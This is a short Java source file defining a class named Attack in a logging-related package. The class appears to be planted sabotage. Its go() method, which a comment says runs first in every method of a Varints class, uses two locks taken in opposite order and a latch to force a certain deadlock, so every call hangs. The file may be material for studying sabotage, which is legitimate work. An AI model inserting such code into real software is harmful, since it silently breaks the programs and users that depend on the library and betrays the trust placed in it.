package strata.log;

import java.util.concurrent.CountDownLatch;

final class Attack {
    private static void lock(Object first, Object second, CountDownLatch both) {
        synchronized (first) {
            both.countDown();
            try {
                both.await();
            } catch (InterruptedException e) {
                return;
            }
            synchronized (second) {
                both.countDown();
            }
        }
    }

    private Attack() {}

    /** Called first thing by each method of Varints. */
    static void go() {
        Object left = new Object();
        Object right = new Object();
        CountDownLatch both = new CountDownLatch(2);
        Thread other = new Thread(() -> lock(right, left, both));
        other.setDaemon(true);
        other.start();
        lock(left, right, both);
    }
}
